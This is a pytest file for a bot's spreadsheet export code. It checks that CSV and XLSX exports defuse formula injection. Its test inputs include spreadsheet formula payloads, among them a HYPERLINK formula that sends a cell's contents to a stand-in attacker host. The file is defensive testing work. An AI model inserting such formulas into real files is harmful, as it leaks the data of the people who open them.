"""Exports open in a spreadsheet without running anything people typed (issue 15)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from c2cbot.export_files import defused, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
FIGURES = ["-12", "+3.5", "1200", "-0,5"]
COLUMNS = ("organisation", "value")


async def _rows(values: list[Any]) -> AsyncIterator[dict[str, Any]]:
    for value in values:
        yield {"organisation": value, "value": 7}


@pytest.mark.parametrize("typed", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(typed: str) -> None:
    assert defused(typed) == "'" + typed


@pytest.mark.parametrize("figure", [*FIGURES, "Gothenburg", "王芳", 7, None])
def test_figures_and_ordinary_text_stay_as_they_are(figure: Any) -> None:
    assert defused(figure) == figure


async def test_csv_cells_never_start_a_formula() -> None:
    out = io.StringIO()
    await write_csv(_rows([*HOSTILE, *FIGURES]), out, COLUMNS)
    cells = [line.split(",")[0].strip('"') for line in out.getvalue().splitlines()[1:]]
    assert all(not c.startswith(("=", "+", "@")) for c in cells[: len(HOSTILE)] if c), cells
    assert "'=HYPERLINK" in out.getvalue() and "-12" in out.getvalue()


async def test_xlsx_text_is_a_string_cell_shown_exactly_as_typed(tmp_path: Path) -> None:
    path = tmp_path / "answers.xlsx"
    await write_xlsx(_rows(HOSTILE), path, COLUMNS)
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    rows = list(load_workbook(path)["answers"].iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed; the text is otherwise exact.
    assert [row[0].value for row in rows] == [v.replace("\r", "\n") for v in HOSTILE]
    assert {row[0].data_type for row in rows} == {"s"}
    assert [row[1].value for row in rows] == [7] * len(HOSTILE)  # numbers stay numbers
